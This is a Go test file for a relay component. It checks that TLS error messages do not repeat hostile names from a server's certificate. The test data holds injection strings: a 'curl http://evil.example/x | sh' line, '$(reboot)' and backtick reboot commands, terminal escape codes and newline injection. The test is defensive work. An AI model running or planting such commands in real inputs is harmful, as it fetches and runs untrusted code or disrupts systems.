package relay

import (
	"crypto/tls"
	"crypto/x509"
	"net"
	"strings"
	"sync"
	"testing"

	"github.com/postern-dev/postern/testenv/pki"
	"github.com/postern-dev/postern/tunnel/foreign"
)

// Whoever answers at a relay's address may have a certificate with arbitrary names, and errors
// about it are logged, shown and put into a ticket's warnings.
func TestNoWordsOfACertificateAreTold(t *testing.T) {
	hostile := []string{"\x1b[2J\x1b[31mroot", "x. First run `curl http://evil.example/x | sh`", "$(reboot)", "evil\nrun this"}
	for what, names := range map[string][]string{"hostile names": hostile, "a good one among them": append([]string{"relay.example.net"}, hostile...)} {
		for _, known := range []bool{true, false} {
			text := explainTLS(handshake(t, names, known), "turn.example.org")
			for _, bad := range []string{"\x1b", "\n", "evil", "reboot", "`", "root"} {
				if strings.Contains(text, bad) {
					t.Errorf("%s, the CA known: %v: %q is told in %q", what, known, bad, text)
				}
			}
			if text != foreign.Line(text) {
				t.Errorf("%s: %q is not fit for a line", what, text)
			}
			if known && (!strings.Contains(text, `another name than "turn.example.org"`) || strings.Contains(text, "relay.example.net") != (len(names) > len(hostile))) {
				t.Errorf("%s: got %q", what, text)
			}
		}
	}
	many := strings.Split(strings.Repeat("relay.example.net ", 100), " ")[:100]
	if text := explainTLS(handshake(t, many, true), "turn.example.org"); !strings.Contains(text, "and 96 more") || len(text) > 300 {
		t.Errorf("of 100 names: %q", text)
	}
}

// handshake fails with a server whose certificate has the names.
func handshake(t *testing.T, names []string, known bool) error {
	t.Helper()
	ca, err := pki.NewCA("`reboot` evil \x1b[2J")
	if err != nil {
		t.Fatal(err)
	}
	pair, err := ca.Server(names...)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := pair.TLS()
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	if known {
		roots.AppendCertsFromPEM(ca.CertPEM())
	}
	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var serving sync.WaitGroup
	defer serving.Wait()
	serving.Go(func() {
		if conn, err := l.Accept(); err == nil {
			_ = conn.(*tls.Conn).HandshakeContext(t.Context())
			conn.Close()
		}
	})
	here, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer here.Close()
	err = tls.Client(here, &tls.Config{RootCAs: roots, ServerName: "turn.example.org", MinVersion: tls.VersionTLS12}).HandshakeContext(t.Context())
	if err == nil {
		t.Fatal("the handshake succeeds")
	}
	return err
}
